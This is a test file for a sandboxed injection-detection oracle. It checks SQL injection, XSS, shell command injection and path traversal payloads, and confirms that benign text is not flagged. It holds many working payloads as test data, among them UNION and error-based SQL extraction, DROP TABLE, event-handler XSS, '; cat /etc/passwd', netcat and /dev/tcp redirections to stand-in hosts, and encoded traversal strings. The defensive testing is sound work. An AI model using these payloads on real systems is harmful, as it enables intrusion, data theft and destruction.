import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { ORACLE_KINDS, runOracle, type OracleKind } from './oracles/index';
import { closeOracles } from './oracles/index';
import { judgeInProcess } from './oracles/dispatch';
import { parserStats, parseSh } from './oracles/shell-parse';
import { seededRng } from '../domain/rng';

afterAll(() => closeOracles());
const verdict = async (k: OracleKind, p: string) => (await runOracle(k, p)).verdict;
const evidenceOf = async (k: OracleKind, p: string) => (await runOracle(k, p)).evidence.join('\n');
const context = async (k: OracleKind, p: string, name: string) => (await runOracle(k, p)).contexts.find((c) => c.name === name);

describe('SQL oracle (libpg-query + PGlite canary)', () => {
  it("' OR '1'='1 adds a boolean branch and leaks the canary row", async () => {
    const r = await runOracle('sql_injection', "' OR '1'='1");
    expect(r.verdict).toBe('exploit_possible');
    expect(r.evidence.join('\n')).toMatch(/\+1 BoolExpr/);
    expect(r.evidence.join('\n')).toMatch(/canary/);
  });
  it('UNION SELECT in a numeric context adds a statement branch and returns the canary secret', async () => {
    const r = await runOracle('sql_injection', '1 UNION SELECT password FROM users');
    expect(r.verdict).toBe('exploit_possible');
    expect(r.contexts.find((c) => c.name === 'numeric')?.detail).toMatch(/SETOP_UNION.*canary row leaked/);
  });
  it("comment that swallows the rest (admin'--) is an exploit: the tenant clause is gone and the rest runs", async () => {
    const r = await runOracle('sql_injection', "admin'--");
    expect(r.verdict).toBe('exploit_possible');
    expect(r.evidence.join('\n')).toMatch(/comment swallows the rest.*template clause removed/);
  });
  it('time-based payloads do not stall: pg_sleep is recorded, not slept', async () => {
    const t = Date.now();
    const r = await runOracle('sql_injection', '1; SELECT pg_sleep(30)');
    expect(r.verdict).toBe('exploit_possible');
    expect(r.evidence.join('\n')).toMatch(/pg_sleep\(30\) requested/);
    expect(Date.now() - t).toBeLessThan(5_000);
  });
  it('error-based extraction: the canary secret comes back in the error message', async () => {
    const r = await runOracle('sql_injection', "' AND 1=CAST((SELECT password FROM users WHERE id=3) AS int)--");
    expect(r.verdict).toBe('exploit_possible');
    expect(r.evidence.join('\n')).toMatch(/canary secret in the error message/);
  });
  it('stacked DROP TABLE changes data (rolled back, database rebuilt if needed)', async () => {
    expect(await evidenceOf('sql_injection', '1; DROP TABLE users')).toMatch(/data changed/);
    expect(await verdict('sql_injection', "' OR '1'='1")).toBe('exploit_possible'); // the canary table is back
  });
  it.each([
    [' UNION ALL SELECT 1,2,3-- ', /numeric, appended to a value.*each UNION query must have the same number of columns/s],
    ["1') or 4915=(select count(*) from domain.domains as t1,domain.columns as t2)--", /parenthesised.*relation "domain.domains" does not exist.*sub-query/s],
    ['-8347%\') union all select 7643,7643,7643--', /LIKE pattern, parenthesised/],
    [' and 1=1', /attacker-written logic runs \(new predicate\)/],
    ['name, (SELECT CASE WHEN substr(password,1,1)=\'C\' THEN 1 ELSE 2 END FROM users WHERE id=3)', /ORDER BY.*sub-query/s],
  ])('%j → exploit', async (p, why) => {
    const r = await runOracle('sql_injection', p);
    expect(r.verdict).toBe('exploit_possible');
    expect(r.evidence.join('\n')).toMatch(why);
  });
  it("O'Brien: the lone quote is a parse error, so nothing runs — improbable, with the reason", async () => {
    const r = await runOracle('sql_injection', "O'Brien");
    expect(r.verdict).toBe('exploit_improbable');
    expect(r.contexts[0].detail).toMatch(/parse error, statement rejected/);
  });
  // Lines of data/benign that the oracle used to confirm: constants in ORDER BY, words read as
  // columns or functions, arithmetic — Postgres rejects them or they only compute a sort key.
  it.each([
    ['-59.38', /ORDER BY: expression change only \(-1 ColumnRef, \+1 A_Const\)/],
    ['9448', /ORDER BY: expression change only/],
    ['7.11240,38.37133', /ORDER BY: expression change only \(-1 ColumnRef, \+2 A_Const, \+1 SortBy\)/],
    ['max(admin, 4)', /rejected at execution.*column "admin" does not exist.*no statement, UNION, sub-query or predicate/s],
    ['Alert and awake -- Siobhan Ping', /column "alert" does not exist/],
    ['rgb(255, 136, 0)', /function rgb\(integer, integer, integer\) does not exist/],
    ['2024-03-15', /expression change only/],
    ['2 + 2 = 4', /executed: 2 row\(s\), nothing leaked or changed; the change is only an expression in the sort key/],
    ['a != b', /column "a" does not exist/],
    ['user,579,القاهرة,17.38', /ORDER BY position 579/],
    ['print("Hello, world!")', /rejected at execution/],
  ])('benign %j → improbable, citing why', async (p, why) => {
    const r = await runOracle('sql_injection', p);
    expect(r.verdict).toBe('exploit_improbable');
    expect(r.evidence.join('\n')).toMatch(why);
  });
  it.each(['select a drop-down', '<3', 'AT&T', 'report (final).pdf', 'docs/readme.md'])('benign %j → improbable', async (p) => {
    expect(await verdict('sql_injection', p)).toBe('exploit_improbable');
  });
});

describe('XSS oracle (parse5)', () => {
  it.each([
    ['<script>alert(1)</script>', /new <script> element/],
    ['" onmouseover="alert(1)', /event-handler attribute: input@onmouseover/],
    ['javascript:alert(1)', /script URL in URL attribute/],
    ['</script><img src=x onerror=alert(1)>', /event-handler/],
    ['"; alert(1); "', /JavaScript string/],
    ['x autofocus onfocus=alert(1)', /unquoted attribute: event-handler attribute: input@onfocus/],
    ['<img+src=x+onerror=prompt(1);>', /\(form-decoded\): event-handler attribute: img@onerror/],
    ['"><iframe src=//evil.example>', /escapes context with active markup: \+\[iframe\[src=/],
    ['--><svg><animate attributeName=href values=javascript:alert(1) /></svg>', /comment: escapes context with active markup/],
  ])('%j → exploit', async (p, why) => {
    const r = await runOracle('xss', p);
    expect(r.verdict).toBe('exploit_possible');
    expect(r.evidence.join('\n')).toMatch(why);
  });
  it('a duplicated handler keeps the first (empty) value, as browsers do: nothing runs', async () => {
    expect(await verdict('xss', '<body onLoad body onLoad="alert(1)">')).toBe('exploit_improbable');
  });
  // Lines of data/benign that the oracle used to confirm.
  it.each([
    ['<b>bold</b>', /element body: .*inert markup only: \+\[b\[\]\]/],
    ['<b>bold</b> is how you bold text in old HTML, says the tutorial', /inert markup only/],
    ['<p>Hello</p>', /inert markup only: \+\[p\[\]\]/],
    ['#include <stdio.h>', /inert markup only: \+\[stdio\.h\[\]\]/],
    ['order pizza online system', /unquoted attribute: .*inert markup only: \+\[\+input\[pizza,online,system\]\]/],
    ['The union rated it 2/5 - one = one', /inert markup only/],
    ['cd src', /inert markup only: \+\[\+input\[src\]\]/],
    ['The script writer said "sleep on it" and executed the group chat.', /inert markup only/],
    ['{"q":"order pizza online","page":27,"filters":["summer","weather"]}', /inert markup only/],
    ['{"path":"/data/green.csv","size":7741219}', /inert markup only/],
  ])('benign %j → improbable, inert markup reported', async (p, why) => {
    const r = await runOracle('xss', p);
    expect(r.verdict).toBe('exploit_improbable');
    expect(r.evidence.join('\n')).toMatch(why);
  });
  it.each(['select a drop-down', '<3', 'AT&T', "O'Brien", 'report (final).pdf', 'docs/readme.md'])('benign %j → improbable', async (p) => {
    expect(await verdict('xss', p)).toBe('exploit_improbable');
  });
});

describe('shell oracle (mvdan/sh)', () => {
  it.each([
    ['; cat /etc/passwd', /runs "cat": a program on the host; 1 added statement/],
    ['$(id)', /command substitution \$\(id\): runs "id"/],
    ['`id`', /command substitution `id`: runs "id"/],
    ['x | nc evil 1', /runs "nc"/],
    ['x && id', /runs "id"/],
    ['x > /tmp/owned', /redirection > writes \/tmp\/owned/],
    ['x < /etc/passwd', /redirection < feeds \/etc\/passwd \(a sensitive file\)/],
    ['x >& /dev/tcp/203.0.113.5/4444', /network socket/],
    [';cat${IFS}/etc/passwd', /runs "cat" \(written cat\$\{IFS\}\/etc\/passwd\)/],
    [';{cat,/etc/passwd}', /runs "cat" \(written \{cat,\/etc\/passwd\}\)/],
    ['x; c\\at /etc/passwd', /runs "cat" \(written c\\at\)/],
    ['|/???/c?t /etc/passwd', /runs "\/\?\?\?\/c\?t"/],
    ['|id|', /unquoted argument, more after it: runs "id"/],
    ["';id;'", /single-quoted argument: runs "id"/],
    ['";id;"', /double-quoted argument: runs "id"/],
    [';echo%20pwned', /\(form-decoded\): runs "echo"/],
  ])('%j → exploit', async (p, why) => {
    const r = await runOracle('command_injection', p);
    expect(r.verdict).toBe('exploit_possible');
    expect(r.evidence.join('\n')).toMatch(why);
  });
  it("'$(id)' is inert unquoted but runs inside double quotes (single quotes are literal there)", async () => {
    const r = await runOracle('command_injection', "'$(id)'");
    expect(r.contexts.find((c) => c.name === 'unquoted argument')?.exploitable).toBe(false);
    expect(r.contexts.find((c) => c.name === 'double-quoted argument')?.exploitable).toBe(true);
  });
  it('AT&T in an unquoted argument backgrounds ls and runs `T`: not a program, so nothing runs', async () => {
    const unquoted = await context('command_injection', 'AT&T', 'unquoted argument');
    expect(unquoted?.exploitable).toBe(false);
    expect(unquoted?.detail).toMatch(/1 added statement.*command "T" is not a program \(command not found\)/);
  });
  // Lines of data/benign that the oracle used to confirm: prose punctuation that is shell syntax.
  it.each([
    ['Read chapters 1-3 before the seminar; skip the appendix.', /command "skip" is not a program/],
    ['#35a4bd', /comment swallows the rest: "35a4bd"/],
    ['n < 100', /redirection < 100: no such file, the command does not run/],
    ['H&M', /command "M" is not a program/],
    ['https://example.com/garden/2753?page=10&sort=asc', /1 added statement/],
    ['The city council pinged the x > y example; grandma read the user manual.', /redirection > y: a file in the working directory.*command "grandma" is not a program/],
    ['<b>bold</b> is how you bold text in old HTML, says the tutorial', /redirection < \/b: no such file/],
    ['let msg = `Hello ${name}`;', /command substitution `Hello \$\{name\}` runs nothing \(command "Hello" is not a program/],
    ['The team & the students joined the shell collection yesterday.', /command "the" is not a program/],
    ['script: eval; eval: 30px;', /command "eval:" is not a program/],
  ])('benign %j → improbable, citing what (does not) run', async (p, why) => {
    const r = await runOracle('command_injection', p);
    expect(r.verdict).toBe('exploit_improbable');
    expect(r.evidence.join('\n')).toMatch(why);
  });
  it.each(['select a drop-down', 'report (final).pdf', 'docs/readme.md', "O'Brien", 'my file.txt'])('benign %j → improbable', async (p) => {
    expect(await verdict('command_injection', p)).toBe('exploit_improbable');
  });
  it('reuses one parser instance across many calls, past the point where an unrestored heap broke (~900 parses)', async () => {
    const probe = 'The team & the students joined the shell collection; grandma read it.';
    // In this thread (not the oracle host), where parseSh's instance lives; the first call also parses the templates.
    await judgeInProcess('command_injection', probe);
    const first = await judgeInProcess('command_injection', probe);
    const before = parserStats();
    for (let i = 0; i < 1000; i++) expect(parseSh(`ls -la file-${i} && echo ${i}`).ok).toBe(true);
    expect(await judgeInProcess('command_injection', probe)).toEqual(first);
    const after = parserStats();
    expect(after.boots).toBe(before.boots);
    expect(after.parses - before.parses).toBeGreaterThan(1000);
  });
});

describe('path oracle (virtual root + decoding)', () => {
  it.each([
    '../../etc/passwd',
    '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
    '..%c0%af..%c0%afetc/passwd',
    '%c0%2e%c0%2e/%c0%2e%c0%2e/etc/passwd',
    '%252e%252e%252f%252e%252e%252f',
    '..\\..\\..\\windows\\win.ini',
    '../../../../etc/passwd%00.png',
    '....//....//....//etc/passwd',
  ])('%j → exploit', async (p) => {
    expect(await verdict('path_traversal', p)).toBe('exploit_possible');
  });
  it('reaching the canary is reported', async () => {
    expect(await evidenceOf('path_traversal', '../../../etc/passwd')).toMatch(/canary file reached/);
  });
  it('an absolute path counts under resolve only when it names a file that exists outside the app', async () => {
    expect(await evidenceOf('path_traversal', '/etc/passwd')).toMatch(/resolve.*canary file reached/);
    expect(await verdict('path_traversal', 'C:\\Windows\\win.ini')).toBe('exploit_possible');
  });
  // Lines of data/benign that the oracle used to confirm: absolute paths under the resolve join.
  it.each(['/summer/list/path.ts', 'C:\\Users\\Nikolai\\Pictures\\select.png', '/home/carlos/settings/bash.png'])('benign %j → improbable, root replaced but nothing there', async (p) => {
    const r = await runOracle('path_traversal', p);
    expect(r.verdict).toBe('exploit_improbable');
    expect(r.evidence.join('\n')).toMatch(/absolute path replaces the root; no canary file there/);
  });
  it.each(['docs/readme.md', 'report (final).pdf', 'select a drop-down', 'AT&T', '<3', 'private/secret.json', 'a/../index.html'])('benign %j → improbable', async (p) => {
    expect(await verdict('path_traversal', p)).toBe('exploit_improbable');
  });
});

// The requirement: no oracle confirms any line of our benign corpus. Every non-empty
// line of every data/benign/**/*.txt (raw, before the training loader's de-duplication) goes
// through all four oracles, on every modelled stack except the SQL dialects judged by
// node-sql-parser, whose own full run is in sql/dialects.test.ts (together ~80 s, one would
// outgrow this test's time). The full run takes ~20 s here, so it is not sampled; the bench
// (`npx tsx sandbox/bench.ts`) reports the same count plus HttpParamsDataset's benign rows.
// data/benign/realworld/ (issue 13: ~30k lines of manual pages, READMEs and forum-style prose
// for the classifier) runs as a seeded sample of 400 lines (the whole would be 8× the run time)
// through the SQL, path and XSS oracles. Not the shell oracle: that prose quotes real shell
// commands in backquotes (``run `sudo apt update` as root``), which would run if injected (10 lines
// of one 400-line sample, all such); the classifier gates such lines first (docs/detection.md).
// XSS is now included: the same backquotes close its template-literal context
// (``Why is it parsing `+` as a space?``, ``use of `-e` to the server``), but a breakout whose only
// calls are of a literal or of a name the page lacks no longer counts (docs/sandbox.md); before
// that, such lines of the 400 were confirmed there.
describe('benign corpus: zero false confirmations', () => {
  const dir = resolve(import.meta.dirname, '../data/benign');
  const files = (d: string, realworld = false): string[] =>
    readdirSync(d).flatMap((f) => (f === 'realworld' && !realworld ? [] : statSync(join(d, f)).isDirectory() ? files(join(d, f), realworld) : f.endsWith('.txt') ? [join(d, f)] : []));
  it('every line of data/benign/*.txt through every oracle → exploit_improbable', { timeout: 600_000 }, async () => {
    const lines = files(dir).flatMap((f) => readFileSync(f, 'utf8').split(/\r?\n/).filter((l) => l.trim() !== ''));
    expect(lines.length).toBeGreaterThan(5000);
    const confirmed: string[] = [];
    for (const line of lines) {
      for (const kind of ORACLE_KINDS) {
        const r = await runOracle(kind, line, kind === 'sql_injection' ? { database: 'postgres' } : undefined);
        if (r.verdict === 'exploit_possible') confirmed.push(`${kind}: ${JSON.stringify(line)} — ${r.evidence[0]}`);
      }
    }
    expect(confirmed).toEqual([]);
  });
  it('a seeded sample of 400 lines of data/benign/realworld through the SQL, path and XSS oracles → exploit_improbable', { timeout: 600_000 }, async () => {
    const lines = [...new Set(files(join(dir, 'realworld'), true).flatMap((f) => readFileSync(f, 'utf8').split(/\r?\n/).filter((l) => l.trim() !== '')))];
    expect(lines.length).toBeGreaterThan(20_000);
    const rank = (l: string) => seededRng(`oracles-realworld:${l}`)();
    const sample = lines.map((l) => ({ l, k: rank(l) })).sort((a, b) => a.k - b.k).slice(0, 400).map((x) => x.l);
    const confirmed: string[] = [];
    for (const line of sample) {
      for (const kind of ['sql_injection', 'path_traversal', 'xss'] as const) {
        const r = await runOracle(kind, line, kind === 'sql_injection' ? { database: 'postgres' } : undefined);
        if (r.verdict === 'exploit_possible') confirmed.push(`${kind}: ${JSON.stringify(line)} — ${r.evidence[0]}`);
      }
    }
    expect(confirmed).toEqual([]);
  });
});
